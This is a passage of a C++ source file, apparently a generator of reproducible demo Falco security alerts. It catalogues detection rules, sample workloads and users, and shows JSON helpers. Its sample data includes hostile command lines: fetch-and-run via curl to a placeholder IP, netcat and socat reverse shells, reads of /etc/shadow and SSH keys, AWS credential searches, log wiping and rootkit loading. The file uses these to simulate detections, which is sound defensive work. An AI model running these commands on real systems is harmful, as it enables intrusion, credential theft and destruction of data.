// SPDX-License-Identifier: Apache-2.0
#include "ingest/ecs/demogenerator.h"

#include <QDateTime>

#include <algorithm>
#include <array>
#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <vector>

namespace fe {

namespace {

// Our own generator and distributions: std:: distributions differ between standard libraries, and the
// output must be identical everywhere for a seed.
class Rng
{
public:
    explicit Rng(quint64 seed) : m_state(seed * 0x9E3779B97F4A7C15ULL + 0x632BE59BD9B4E019ULL) {}
    quint64 next()
    {
        quint64 z = (m_state += 0x9E3779B97F4A7C15ULL);
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
        return z ^ (z >> 31);
    }
    double uniform() { return double(next() >> 11) * (1.0 / 9007199254740992.0); }
    int below(int n) { return n <= 1 ? 0 : int(next() % quint64(n)); }
    bool chance(double p) { return uniform() < p; }

private:
    quint64 m_state;
};

quint64 mix(quint64 a, quint64 b)
{
    Rng r(a ^ (b * 0xD6E8FEB86659FD93ULL));
    return r.next();
}

enum class Where { Container, Host, Either, K8sAudit, Internal };

struct ProcessSpec
{
    const char *name;
    const char *exepath;
    const char *cmdline;
    const char *parent;
};

struct FieldValues
{
    const char *field;
    std::vector<const char *> values;
};

struct RuleSpec
{
    const char *name;
    const char *priority;
    Where where;
    std::vector<const char *> tags;
    const char *format;   // Falco's output format for the rule, %fields substituted per alert
    std::vector<ProcessSpec> processes;
    std::vector<FieldValues> values;
};

// The tail every syscall rule shares in the default rules (falco_rules.yaml, 0.37+).
#define FE_PROC_INFO                                                                                                   \
    "evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "          \
    "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"
#define FE_NET_INFO "connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto "

const ProcessSpec s_shells[] = {
    {"bash", "/usr/bin/bash", "bash", "runc"},
    {"sh", "/bin/sh", "sh -i", "containerd-shim"},
    {"bash", "/bin/bash", "bash -il", "runc"},
    {"ash", "/bin/busybox", "ash", "runc"},
};

// Catalogue order is the Pareto rank: the first rules are the noisy ones.
const std::vector<RuleSpec> &catalogue()
{
    static const std::vector<RuleSpec> rules = {
        {"Contact K8S API Server From Container", "Notice", Where::Container,
         {"maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"},
         "Unexpected connection to K8s API Server from container (" FE_NET_INFO FE_PROC_INFO " %container.info)",
         {{"curl", "/usr/bin/curl", "curl -sk https://kubernetes.default.svc/api/v1/namespaces", "sh"},
          {"python3", "/usr/bin/python3.11", "python3 /app/sync.py --watch", "tini"},
          {"kubectl", "/usr/local/bin/kubectl", "kubectl get secrets -A", "bash"}},
         {{"evt.type", {"connect"}}, {"fd.name", {"10.42.0.17:51644->10.43.0.1:443", "10.42.3.9:40312->10.43.0.1:443"}},
          {"fd.rport", {"443"}}}},
        {"Read sensitive file untrusted", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"},
         "Sensitive file opened for reading by non-trusted program (file=%fd.name gparent=%proc.aname[2] "
         "ggparent=%proc.aname[3] gggparent=%proc.aname[4] " FE_PROC_INFO " %container.info)",
         {{"cat", "/usr/bin/cat", "cat /etc/shadow", "bash"},
          {"python3", "/usr/bin/python3.11", "python3 -c open('/etc/shadow').read()", "sh"},
          {"event-generator", "/bin/event-generator", "event-generator run --loop", "containerd-shim"},
          {"vim", "/usr/bin/vim.basic", "vim /etc/sudoers", "bash"}},
         {{"evt.type", {"openat", "open"}}, {"fd.name", {"/etc/shadow", "/etc/sudoers", "/etc/pam.conf", "/etc/gshadow"}}}},
        {"Terminal shell in container", "Notice", Where::Container,
         {"maturity_stable", "container", "shell", "mitre_execution", "T1059"},
         "A shell was spawned in a container with an attached terminal (" FE_PROC_INFO
         " exe_flags=%evt.arg.flags %container.info)",
         {std::begin(s_shells), std::end(s_shells)},
         {{"evt.type", {"execve"}}, {"proc.tty", {"34816", "34817"}}, {"evt.arg.flags", {"EXE_WRITABLE", "0"}}}},
        {"Launch Suspicious Network Tool in Container", "Notice", Where::Container,
         {"maturity_incubating", "container", "network", "process", "mitre_execution", "T1059"},
         "Network tool launched in container (" FE_PROC_INFO " %container.info)",
         {{"nmap", "/usr/bin/nmap", "nmap -sS 10.42.0.0/16", "bash"},
          {"tcpdump", "/usr/sbin/tcpdump", "tcpdump -i eth0 -w /tmp/cap.pcap", "sh"},
          {"socat", "/usr/bin/socat", "socat TCP-LISTEN:4444 EXEC:/bin/sh", "sh"}},
         {{"evt.type", {"execve"}}}},
        {"System user interactive", "Informational", Where::Either,
         {"maturity_stable", "host", "container", "users", "mitre_execution", "T1059", "NIST_800-53_AC-2"},
         "System (e.g. non-login) user spawned an interactive process (" FE_PROC_INFO " %container.info)",
         {{"login", "/bin/busybox", "login", "event-generator"}, {"bash", "/usr/bin/bash", "bash -i", "su"}},
         {{"evt.type", {"execve"}}, {"user.name", {"daemon", "www-data", "nobody"}}}},
        {"Launch Package Management Process in Container", "Error", Where::Container,
         {"maturity_incubating", "container", "process", "software_mgmt", "mitre_persistence", "T1505"},
         "Package management process launched in container (" FE_PROC_INFO " %container.info)",
         {{"apt-get", "/usr/bin/apt-get", "apt-get install -y curl", "sh"},
          {"apk", "/sbin/apk", "apk add --no-cache netcat-openbsd", "sh"},
          {"pip", "/usr/local/bin/pip", "pip install requests", "bash"}},
         {{"evt.type", {"execve"}}}},
        {"Run shell untrusted", "Notice", Where::Either,
         {"maturity_stable", "host", "container", "process", "shell", "mitre_execution", "T1059.004"},
         "Shell spawned by untrusted binary (parent_exe=%proc.pexe parent_exepath=%proc.pexepath "
         "pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] aname[4]=%proc.aname[4] "
         "aname[5]=%proc.aname[5] aname[6]=%proc.aname[6] aname[7]=%proc.aname[7] " FE_PROC_INFO
         " %container.info)",
         {{"sh", "/bin/sh", "sh -c uname -a; id", "node"}, {"bash", "/usr/bin/bash", "bash -c 'curl http://198.51.100.7/x|sh'", "java"}},
         {{"evt.type", {"execve"}}}},
        {"Read sensitive file trusted after startup", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"},
         "Sensitive file opened for reading by trusted program after startup (file=%fd.name pcmdline=%proc.pcmdline "
         "gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] " FE_PROC_INFO " %container.info)",
         {{"httpd", "/usr/sbin/httpd", "httpd -DFOREGROUND", "containerd-shim"}, {"sshd", "/usr/sbin/sshd", "sshd -D", "systemd"}},
         {{"evt.type", {"openat"}}, {"fd.name", {"/etc/shadow", "/etc/sudoers"}}}},
        {"Redirect STDOUT/STDIN to Network Connection in Container", "Notice", Where::Container,
         {"maturity_stable", "container", "network", "process", "mitre_execution", "T1059"},
         "Redirect stdout/stdin to network connection (gparent=%proc.aname[2] ggparent=%proc.aname[3] "
         "gggparent=%proc.aname[4] fd.sip=%fd.sip " FE_NET_INFO FE_PROC_INFO " %container.info)",
         {{"bash", "/usr/bin/bash", "bash -i", "python3"}, {"sh", "/bin/sh", "sh", "perl"}},
         {{"evt.type", {"dup2", "dup3"}}, {"fd.name", {"10.42.1.23:41122->203.0.113.50:4444", "10.42.0.8:53312->198.51.100.7:9001"}}}},
        {"Clear Log Activities", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "filesystem", "mitre_defense_evasion", "T1070", "NIST_800-53_AU-10"},
         "Log files were tampered (file=%fd.name " FE_PROC_INFO " %container.info)",
         {{"truncate", "/usr/bin/truncate", "truncate -s0 /var/log/auth.log", "bash"},
          {"shred", "/usr/bin/shred", "shred -u /var/log/syslog", "bash"}},
         {{"evt.type", {"openat"}}, {"fd.name", {"/var/log/auth.log", "/var/log/syslog", "/var/log/lastlog", "/var/log/wtmp"}}}},
        {"Launch Privileged Container", "Informational", Where::Container,
         {"maturity_incubating", "container", "cis", "mitre_execution", "T1610", "PCI_DSS_10.2.5"},
         "Privileged container started (" FE_PROC_INFO " %container.info)",
         {{"runc:[1:CHILD]", "/usr/bin/runc", "runc:[1:CHILD] init", "runc"}},
         {{"evt.type", {"execve"}}}},
        {"Search Private Keys or Passwords", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "process", "filesystem", "mitre_credential_access", "T1552.001"},
         "Grep private keys or passwords activities found (" FE_PROC_INFO " %container.info)",
         {{"grep", "/usr/bin/grep", "grep -r BEGIN RSA PRIVATE /", "bash"},
          {"find", "/usr/bin/find", "find / -name id_rsa", "sh"},
          {"grep", "/usr/bin/grep", "grep -ri password /etc /home", "bash"}},
         {{"evt.type", {"execve"}}}},
        {"Drop and execute new binary in container", "Critical", Where::Container,
         {"maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"},
         "Executing binary not part of base image (proc_exe=%proc.exe proc_sname=%proc.sname gparent=%proc.aname[2] "
         "proc_exe_ino_ctime=%proc.exe_ino.ctime proc_exe_ino_mtime=%proc.exe_ino.mtime "
         "proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd "
         "container_start_ts=%container.start_ts " FE_PROC_INFO " exe_flags=%evt.arg.flags %container.info)",
         {{"xmrig", "/tmp/xmrig", "./xmrig -o pool.minexmr.com:4444", "sh"},
          {"kinsing", "/tmp/kinsing", "/tmp/kinsing", "bash"},
          {"payload", "/dev/shm/.x/payload", "/dev/shm/.x/payload -d", "sh"}},
         {{"evt.type", {"execve"}}, {"evt.arg.flags", {"EXE_WRITABLE|EXE_UPPER_LAYER"}}, {"proc.cwd", {"/tmp/", "/root/"}}}},
        {"Write below etc", "Error", Where::Either,
         {"maturity_sandbox", "host", "container", "filesystem", "mitre_persistence", "T1098"},
         "File below /etc opened for writing (file=%fd.name pcmdline=%proc.pcmdline gparent=%proc.aname[2] " FE_PROC_INFO
         " %container.info)",
         {{"tee", "/usr/bin/tee", "tee -a /etc/passwd", "bash"}, {"sed", "/usr/bin/sed", "sed -i s/x// /etc/shadow", "sh"},
          {"touch", "/usr/bin/touch", "touch /etc/cron.d/backdoor", "bash"}},
         {{"evt.type", {"openat"}}, {"fd.name", {"/etc/passwd", "/etc/cron.d/backdoor", "/etc/ld.so.preload", "/etc/hosts"}}}},
        {"Netcat Remote Code Execution in Container", "Warning", Where::Container,
         {"maturity_stable", "container", "network", "process", "mitre_execution", "T1059"},
         "Netcat runs inside container that allows remote code execution (" FE_PROC_INFO " %container.info)",
         {{"nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh 203.0.113.50 4444", "sh"},
          {"ncat", "/usr/bin/ncat", "ncat -lvp 9001 -e /bin/bash", "bash"}},
         {{"evt.type", {"execve"}}}},
        {"Non sudo setuid", "Notice", Where::Either,
         {"maturity_sandbox", "host", "container", "users", "mitre_privilege_escalation", "T1548.001"},
         "Unexpected setuid call by non-sudo, non-root program (arg_uid=%evt.arg.uid " FE_PROC_INFO " %container.info)",
         {{"su", "/usr/bin/su", "su -", "bash"}, {"exploit", "/tmp/exploit", "./exploit", "sh"}},
         {{"evt.type", {"setuid"}}, {"evt.arg.uid", {"root"}}, {"user.name", {"www-data", "app"}}}},
        {"Packet socket created in container", "Notice", Where::Container,
         {"maturity_stable", "container", "network", "mitre_credential_access", "T1557.002"},
         "Packet socket was created in a container (socket_info=%evt.args " FE_NET_INFO FE_PROC_INFO " %container.info)",
         {{"tcpdump", "/usr/sbin/tcpdump", "tcpdump -i any", "bash"}, {"arpspoof", "/usr/sbin/arpspoof", "arpspoof -i eth0 10.42.0.1", "sh"}},
         {{"evt.type", {"socket"}}, {"evt.args", {"domain=17(AF_PACKET) type=3 proto=768 "}}, {"fd.name", {""}}}},
        {"Create Symlink Over Sensitive Files", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"},
         "Symlinks created over sensitive files (target=%evt.arg.target linkpath=%evt.arg.linkpath " FE_PROC_INFO
         " %container.info)",
         {{"ln", "/usr/bin/ln", "ln -s /etc/shadow /tmp/s", "bash"}},
         {{"evt.type", {"symlinkat", "symlink"}}, {"evt.arg.target", {"/etc/shadow", "/etc/sudoers"}},
          {"evt.arg.linkpath", {"/tmp/s", "/var/www/html/x"}}}},
        {"Disallowed SSH Connection Non Standard Port", "Notice", Where::Either,
         {"maturity_stable", "host", "container", "network", "process", "mitre_execution", "T1059"},
         "Disallowed SSH Connection (" FE_NET_INFO FE_PROC_INFO " %container.info)",
         {{"ssh", "/usr/bin/ssh", "ssh -p 2222 root@198.51.100.7", "bash"}},
         {{"evt.type", {"connect"}}, {"fd.name", {"10.0.3.14:48212->198.51.100.7:2222"}}, {"fd.rport", {"2222"}}}},
        {"Find AWS Credentials", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "process", "aws", "mitre_credential_access", "T1552"},
         "Detected AWS credentials search activity (proc_pcmdline=%proc.pcmdline proc_cwd=%proc.cwd "
         "group_gid=%group.gid group_name=%group.name user_loginname=%user.loginname " FE_PROC_INFO " %container.info)",
         {{"grep", "/usr/bin/grep", "grep -r aws_secret_access_key /", "bash"},
          {"find", "/usr/bin/find", "find / -name credentials -path *.aws*", "sh"}},
         {{"evt.type", {"execve"}}}},
        {"Execution from /dev/shm", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "mitre_execution", "T1059.004"},
         "File execution detected from /dev/shm (evt_res=%evt.res file=%fd.name proc_cwd=%proc.cwd "
         "proc_pcmdline=%proc.pcmdline user_loginname=%user.loginname group_gid=%group.gid group_name=%group.name "
         FE_PROC_INFO " %container.info)",
         {{"sh", "/bin/sh", "sh /dev/shm/run.sh", "bash"}},
         {{"evt.type", {"execve"}}, {"fd.name", {"/dev/shm/run.sh"}}, {"evt.res", {"SUCCESS"}}}},
        {"PTRACE attached to process", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "process", "mitre_privilege_escalation", "T1055.008"},
         "Detected ptrace PTRACE_ATTACH attempt (proc_pcmdline=%proc.pcmdline " FE_PROC_INFO " %container.info)",
         {{"gdb", "/usr/bin/gdb", "gdb -p 1", "bash"}, {"strace", "/usr/bin/strace", "strace -p 4242", "bash"}},
         {{"evt.type", {"ptrace"}}}},
        {"Remove Bulk Data from Disk", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "process", "filesystem", "mitre_impact", "T1485"},
         "Bulk data has been removed from disk (file=%fd.name " FE_PROC_INFO " %container.info)",
         {{"shred", "/usr/bin/shred", "shred -n 3 -u /data/db.sqlite", "bash"}, {"wipe", "/usr/bin/wipe", "wipe -rf /srv", "bash"}},
         {{"evt.type", {"execve"}}, {"fd.name", {""}}}},
        {"Delete or rename shell history", "Warning", Where::Either,
         {"maturity_incubating", "host", "container", "process", "filesystem", "mitre_defense_evasion", "T1070"},
         "Shell history had been deleted or renamed (file=%fd.name name=%evt.arg.name path=%evt.arg.path "
         "oldpath=%evt.arg.oldpath " FE_PROC_INFO " %container.info)",
         {{"rm", "/usr/bin/rm", "rm -f /root/.bash_history", "bash"}},
         {{"evt.type", {"unlinkat"}}, {"fd.name", {"/root/.bash_history"}}, {"evt.arg.name", {"/root/.bash_history"}}}},
        {"Read ssh information", "Error", Where::Either,
         {"maturity_sandbox", "host", "container", "filesystem", "mitre_collection", "T1005"},
         "ssh-related file/directory read by non-ssh program (file=%fd.name pcmdline=%proc.pcmdline " FE_PROC_INFO
         " %container.info)",
         {{"cat", "/usr/bin/cat", "cat /root/.ssh/id_rsa", "bash"}, {"python3", "/usr/bin/python3.11", "python3 steal.py", "sh"}},
         {{"evt.type", {"openat"}}, {"fd.name", {"/root/.ssh/id_rsa", "/home/app/.ssh/authorized_keys"}}}},
        {"Create files below dev", "Error", Where::Either,
         {"maturity_sandbox", "host", "container", "filesystem", "mitre_persistence", "T1543", "NIST_800-53_CM-7"},
         "File created below /dev by untrusted program (file=%fd.name " FE_PROC_INFO " %container.info)",
         {{"touch", "/usr/bin/touch", "touch /dev/.hidden", "bash"}},
         {{"evt.type", {"openat"}}, {"fd.name", {"/dev/.hidden", "/dev/shm/.x"}}}},
        {"Modify binary dirs", "Error", Where::Either,
         {"maturity_sandbox", "host", "container", "filesystem", "mitre_defense_evasion", "T1222.002"},
         "File below known binary directory renamed/removed (file=%fd.name pcmdline=%proc.pcmdline evt_args=%evt.args "
         FE_PROC_INFO " %container.info)",
         {{"mv", "/usr/bin/mv", "mv /usr/bin/ps /usr/bin/.ps", "bash"}},
         {{"evt.type", {"renameat2"}}, {"fd.name", {"/usr/bin/ps"}}, {"evt.args", {"res=0 olddirfd=-100(AT_FDCWD) oldpath=/usr/bin/ps"}}}},
        {"Mkdir binary dirs", "Error", Where::Either,
         {"maturity_sandbox", "host", "container", "filesystem", "mitre_persistence", "T1222.002"},
         "Directory below known binary directory created (directory=%evt.arg.path " FE_PROC_INFO " %container.info)",
         {{"mkdir", "/usr/bin/mkdir", "mkdir /bin/.cache", "bash"}},
         {{"evt.type", {"mkdirat"}}, {"evt.arg.path", {"/bin/.cache", "/usr/sbin/.x"}}}},
        {"Set Setuid or Setgid bit", "Notice", Where::Either,
         {"maturity_sandbox", "host", "container", "process", "users", "mitre_privilege_escalation", "T1548.001"},
         "Setuid or setgid bit is set via chmod (fd=%evt.arg.fd filename=%evt.arg.filename mode=%evt.arg.mode "
         FE_PROC_INFO " %container.info)",
         {{"chmod", "/usr/bin/chmod", "chmod u+s /tmp/sh", "bash"}},
         {{"evt.type", {"fchmodat"}}, {"evt.arg.filename", {"/tmp/sh"}}, {"evt.arg.mode", {"S_ISUID|S_IRWXU"}}}},
        {"Outbound Connection to C2 Servers", "Warning", Where::Either,
         {"maturity_sandbox", "host", "container", "network", "mitre_command_and_control", "TA0011"},
         "Outbound connection to C2 server (c2_domain=%fd.sip.name c2_addr=%fd.sip " FE_NET_INFO FE_PROC_INFO
         " %container.info)",
         {{"curl", "/usr/bin/curl", "curl http://c2.example.invalid/beacon", "sh"}},
         {{"evt.type", {"connect"}}, {"fd.sip", {"203.0.113.50"}}, {"fd.sip.name", {"c2.example.invalid"}},
          {"fd.name", {"10.42.2.4:38812->203.0.113.50:80"}}}},
        {"Linux Kernel Module Injection Detected", "Warning", Where::Either,
         {"maturity_stable", "host", "container", "process", "mitre_persistence", "TA0003"},
         "Linux Kernel Module injection from container (parent_exepath=%proc.pexepath gparent=%proc.aname[2] "
         "gexepath=%proc.aexepath[2] module=%proc.args res=%evt.res " FE_PROC_INFO " %container.info)",
         {{"insmod", "/usr/sbin/insmod", "insmod /tmp/rootkit.ko", "bash"}},
         {{"evt.type", {"init_module"}}, {"proc.args", {"/tmp/rootkit.ko"}}, {"evt.res", {"SUCCESS"}}}},
        {"Fileless execution via memfd_create", "Critical", Where::Either,
         {"maturity_stable", "host", "container", "process", "mitre_defense_evasion", "T1620"},
         "Fileless execution via memfd_create (container_start_ts=%container.start_ts proc_cwd=%proc.cwd "
         "evt_res=%evt.res proc_sname=%proc.sname gparent=%proc.aname[2] " FE_PROC_INFO
         " exe_flags=%evt.arg.flags %container.info)",
         {{"3", "memfd:program", "3", "python3"}},
         {{"evt.type", {"execve"}}, {"evt.arg.flags", {"EXE_FROM_MEMFD"}}, {"evt.res", {"SUCCESS"}}}},
        {"Debugfs Launched in Privileged Container", "Warning", Where::Container,
         {"maturity_stable", "container", "cis", "process", "mitre_privilege_escalation", "T1611"},
         "Debugfs launched started in a privileged container (" FE_PROC_INFO " %container.info)",
         {{"debugfs", "/usr/sbin/debugfs", "debugfs /dev/sda1", "bash"}}, {{"evt.type", {"execve"}}}},
        {"Detect release_agent File Container Escapes", "Critical", Where::Container,
         {"maturity_stable", "container", "process", "mitre_privilege_escalation", "T1611"},
         "Detect an attempt to exploit a container escape using release_agent file (file=%fd.name "
         "cap_effective=%thread.cap_effective " FE_PROC_INFO " %container.info)",
         {{"sh", "/bin/sh", "sh -c echo /cmd > /tmp/cgrp/release_agent", "bash"}},
         {{"evt.type", {"openat"}}, {"fd.name", {"/tmp/cgrp/release_agent"}}, {"thread.cap_effective", {"CAP_SYS_ADMIN"}}}},
        {"PTRACE anti-debug attempt", "Notice", Where::Either,
         {"maturity_stable", "host", "container", "process", "mitre_defense_evasion", "T1622"},
         "Detected potential PTRACE_TRACEME anti-debug attempt (proc_pcmdline=%proc.pcmdline " FE_PROC_INFO
         " %container.info)",
         {{"upx-packed", "/tmp/upx-packed", "/tmp/upx-packed", "sh"}}, {{"evt.type", {"ptrace"}}}},
        {"Launch Sensitive Mount Container", "Informational", Where::Container,
         {"maturity_incubating", "container", "cis", "mitre_execution", "T1610"},
         "Container with sensitive mount started (mounts=%container.mounts " FE_PROC_INFO " %container.info)",
         {{"runc:[1:CHILD]", "/usr/bin/runc", "runc:[1:CHILD] init", "runc"}},
         {{"evt.type", {"execve"}}, {"container.mounts", {"/var/run/docker.sock:/var/run/docker.sock::true:rprivate", "/:/host::true:rprivate"}}}},
        {"BPF Program Not Profiled", "Notice", Where::Host,
         {"maturity_incubating", "host", "container", "mitre_persistence", "TA0003"},
         "BPF Program Not Profiled (bpf_cmd=%evt.arg.cmd " FE_PROC_INFO " %container.info)",
         {{"bpftool", "/usr/sbin/bpftool", "bpftool prog load x.o /sys/fs/bpf/x", "bash"}},
         {{"evt.type", {"bpf"}}, {"evt.arg.cmd", {"BPF_PROG_LOAD"}}}},
        // Kubernetes audit rules (k8saudit plugin rules), source k8s_audit.
        {"Attach/Exec Pod", "Notice", Where::K8sAudit, {"k8s"},
         "Attach/Exec to pod (user=%ka.user.name pod=%ka.target.name resource=%ka.target.resource "
         "ns=%ka.target.namespace action=%ka.target.subresource command=%ka.uri.param[command])",
         {}, {{"ka.target.subresource", {"exec", "attach"}}, {"ka.uri.param[command]", {"bash", "sh", "cat /etc/passwd"}}}},
        {"K8s Secret Get Successfully", "Error", Where::K8sAudit, {"k8s"},
         "K8s Secret Get Successfully (user=%ka.user.name secret=%ka.target.name ns=%ka.target.namespace "
         "resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)",
         {}, {{"ka.target.resource", {"secrets"}}, {"ka.response.code", {"200"}}}},
        {"Create Disallowed Pod", "Warning", Where::K8sAudit, {"k8s"},
         "Pod started with container not in allowed list (user=%ka.user.name pod=%ka.resp.name "
         "ns=%ka.target.namespace images=%ka.req.pod.containers.image)",
         {}, {{"ka.req.pod.containers.image", {"[docker.io/library/alpine:latest]", "[docker.io/kalilinux/kali-rolling]"}}}},
        {"Create Privileged Pod", "Warning", Where::K8sAudit, {"k8s"},
         "Pod started with privileged container (user=%ka.user.name pod=%ka.resp.name resource=%ka.target.resource "
         "ns=%ka.target.namespace images=%ka.req.pod.containers.image)",
         {}, {{"ka.target.resource", {"pods"}}, {"ka.req.pod.containers.image", {"[docker.io/library/busybox:1.36]"}}}},
        {"Create NodePort Service", "Warning", Where::K8sAudit, {"k8s"},
         "NodePort Service Created (user=%ka.user.name service=%ka.target.name resource=%ka.target.resource "
         "ns=%ka.target.namespace ports=%ka.req.service.ports)",
         {}, {{"ka.target.resource", {"services"}}, {"ka.req.service.ports", {"[{\"nodePort\":30080,\"port\":80,\"protocol\":\"TCP\"}]"}}}},
        {"ClusterRole With Wildcard Created", "Warning", Where::K8sAudit, {"k8s"},
         "Created Role/ClusterRole with wildcard (user=%ka.user.name role=%ka.target.name resource=%ka.target.resource "
         "rules=%ka.req.role.rules)",
         {}, {{"ka.target.resource", {"clusterroles"}}, {"ka.req.role.rules", {"[{\"apiGroups\":[\"*\"],\"resources\":[\"*\"],\"verbs\":[\"*\"]}]"}}}},
        {"Anonymous Request Allowed", "Warning", Where::K8sAudit, {"k8s"},
         "Request by anonymous user allowed (user=%ka.user.name verb=%ka.verb uri=%ka.uri reason=%ka.auth.reason)",
         {}, {{"ka.user.name", {"system:anonymous"}}, {"ka.verb", {"get", "list"}}, {"ka.uri", {"/api/v1/namespaces/default/pods", "/version"}}}},
        // Falco's own events: empty output_fields, no tags.
        {"Falco internal: syscall event drop", "Debug", Where::Internal, {}, nullptr, {}, {}},
    };
    return rules;
}

std::vector<const RuleSpec *> activeRules()
{
    std::vector<const RuleSpec *> out;
    for (const RuleSpec &r : catalogue())
        out.push_back(&r);
    return out;
}

struct Workload
{
    const char *ns;
    const char *name;
    const char *image;
    const char *tag;
};

const Workload s_workloads[] = {
    {"payments", "payments-api", "ghcr.io/acme/payments-api", "1.14.2"},
    {"payments", "ledger-worker", "ghcr.io/acme/ledger-worker", "3.2.0"},
    {"checkout", "checkout-web", "ghcr.io/acme/checkout-web", "2024.11.3"},
    {"checkout", "cart", "ghcr.io/acme/cart", "0.9.17"},
    {"kube-system", "coredns", "registry.k8s.io/coredns/coredns", "v1.10.1"},
    {"kube-system", "kube-proxy", "registry.k8s.io/kube-proxy", "v1.29.4"},
    {"monitoring", "prometheus", "quay.io/prometheus/prometheus", "v2.51.2"},
    {"monitoring", "grafana", "docker.io/grafana/grafana", "10.4.2"},
    {"ingress-nginx", "ingress-nginx-controller", "registry.k8s.io/ingress-nginx/controller", "v1.10.1"},
    {"default", "nginx", "docker.io/library/nginx", "1.25.4"},
    {"default", "redis", "docker.io/library/redis", "7.2.4"},
    {"data", "postgres", "docker.io/library/postgres", "16.2"},
    {"data", "kafka", "docker.io/bitnami/kafka", "3.7.0"},
    {"ci", "jenkins-agent", "docker.io/jenkins/inbound-agent", "3206.vb_15dcf73f6a_9-2"},
    {"ci", "gitlab-runner", "registry.gitlab.com/gitlab-org/gitlab-runner", "v16.10.0"},
    {"falco", "falco", "docker.io/falcosecurity/falco-no-driver", "0.37.1"},
    {"falco", "falcosidekick", "docker.io/falcosecurity/falcosidekick", "2.28.0"},
    {"ml", "notebook", "quay.io/jupyter/scipy-notebook", "2024-04-22"},
    {"search", "elasticsearch", "docker.elastic.co/elasticsearch/elasticsearch", "8.13.2"},
    {"web", "wordpress", "docker.io/library/wordpress", "6.5.2-php8.2-apache"},
    {"web", "php-fpm", "docker.io/library/php", "8.3-fpm-alpine"},
    {"auth", "keycloak", "quay.io/keycloak/keycloak", "24.0.3"},
    {"argocd", "argocd-server", "quay.io/argoproj/argocd", "v2.10.7"},
    {"cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller", "v1.14.4"},
};

const char *const s_k8sUsers[] = {
    "kubernetes-admin", "system:serviceaccount:ci:jenkins", "alice@example.com", "bob@example.com",
    "system:serviceaccount:argocd:argocd-application-controller", "system:anonymous",
};

struct User
{
    const char *name;
    int uid;
};
const User s_users[] = {{"root", 0}, {"root", 0}, {"root", 0}, {"www-data", 33}, {"app", 1000},
                        {"nobody", 65534}, {"daemon", 2}, {"ubuntu", 1000}};

const char *const s_ancestors[] = {"containerd-shim", "runc", "init", "systemd", "sshd", "bash", "tini", "node",
                                   "java", "python3", "sh", "kubelet"};

const char s_podAlphabet[] = "bcdfghjklmnpqrstvwxz2456789";

// A value of output_fields: Falco sends strings, integers, and null for fields it could not resolve.
struct Value
{
    enum class Kind { Null, String, Int } kind = Kind::Null;
    QByteArray text;
    qint64 number = 0;
    static Value str(const QByteArray &s) { return {Kind::String, s, 0}; }
    static Value str(const char *s) { return {Kind::String, QByteArray(s), 0}; }
    static Value num(qint64 n) { return {Kind::Int, {}, n}; }
};

bool isIntegerField(const QByteArray &field)
{
    static const char *const ints[] = {"fd.lport", "fd.rport", "proc.tty", "user.uid", "user.loginuid", "evt.time",
                                       "container.start_ts", "group.gid", "ka.response.code", "proc.exe_ino.ctime",
                                       "proc.exe_ino.mtime", "proc.exe_ino.ctime_duration_proc_start", "evt.arg.fd"};
    for (const char *f : ints) {
        if (field == f)
            return true;
    }
    return false;
}

void appendJsonString(QByteArray &out, const QByteArray &s)
{
    out.append('"');
    for (char c : s) {
        const auto u = static_cast<unsigned char>(c);
        if (c == '"' || c == '\\') {
            out.append('\\').append(c);
        } else if (u < 0x20) {
            static const char hex[] = "0123456789abcdef";
            if (c == '\n')
                out.append("\\n");
            else if (c == '\t')
                out.append("\\t");
            else
                out.append("\\u00").append(hex[u >> 4]).append(hex[u & 15]);
        } else {
            out.append(c);
        }
    }
    out.append('"');
}

QByteArray isoNanos(qint64 ms, int extraNanos, bool zulu)
{
    const QDateTime t = QDateTime::fromMSecsSinceEpoch(ms, Qt::UTC);
    QByteArray s = t.toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss")).toLatin1();
    char frac[16];
    std::snprintf(frac, sizeof frac, ".%03d%06d", int(ms % 1000), extraNanos);
    s.append(frac);
    s.append(zulu ? "Z" : "+0000");
    return s;
}

QByteArray hex(quint64 v, int digits)
{
    QByteArray s = QByteArray::number(v, 16).rightJustified(16, '0');
    return s.right(digits);
}

// What an output field's value is made of: the alert's world (process, user, workload, container).
struct FieldContext
{
    Rng &rng;
    const User &user;
    const ProcessSpec &proc;
    const Workload &wl;
    bool inContainer;
    bool vmHost;
    qint64 evtTimeNs;
    quint64 podHash;
    const QByteArray &podName;
    const QByteArray &containerId;
    QByteArray field;   // the field asked for (for the prefix rules)
};

// The value of each output field a rule's format names, as Falco fills it (exact names, then name prefixes);
// a field not listed is null (Falco's <NA>). A rule's own values (RuleSpec::values) come first.
struct FieldRule
{
    const char *name;
    bool prefix;
    Value (*value)(FieldContext &c);
};

const FieldRule s_fieldRules[] = {
    {"evt.time", false, [](FieldContext &c) -> Value { return Value::num(c.evtTimeNs); }},
    {"evt.type", false, [](FieldContext &) -> Value { return Value::str("execve"); }},
    {"evt.res", false, [](FieldContext &) -> Value { return Value::str("SUCCESS"); }},
    {"evt.args", false, [](FieldContext &) -> Value { return Value::str(""); }},
